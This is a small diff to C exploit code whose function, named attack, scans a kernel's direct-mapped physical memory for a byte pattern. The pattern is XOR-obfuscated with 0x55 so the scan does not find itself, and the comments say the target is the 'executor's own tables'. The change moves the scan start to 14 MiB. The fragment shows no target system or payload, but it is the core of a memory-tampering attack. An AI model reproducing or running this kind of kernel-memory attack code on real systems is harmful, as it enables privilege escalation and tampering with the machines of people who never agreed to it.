@@ -3,7 +3,7 @@
    executor's own tables. Both are given with each byte's bits changed by 0x55, so that it does not find itself. */
 
 #define HOLE 0x686f6c65
-#define DIRECT 0x80000000u /* where the kernel has all physical memory */
+#define DIRECT 0x80000000u /* where the kernel has all physical memory; what is not the kernel itself begins at 14 MiB */
 #define CHUNK 65536u
 
 static u8 buffer[CHUNK + sizeof what];
@@ -20,7 +20,7 @@ int attack(char **arguments, char **environment)
 	fill(buffer, 1, sizeof buffer); /* its pages are there when the kernel writes to them */
 	for (i = 0; i < length; i++)
 		with[i] ^= 0x55;
-	for (at = DIRECT + 0x100000; at < DIRECT + (MEMORY << 20); at += CHUNK) {
+	for (at = DIRECT + 0xe00000; at < DIRECT + (MEMORY << 20); at += CHUNK) {
 		copy((u32)buffer, at, at + CHUNK < DIRECT + (MEMORY << 20) ? CHUNK + length : CHUNK);
 		for (i = 0; i < CHUNK; i++) {
 			if (buffer[i] != (what[0] ^ 0x55))
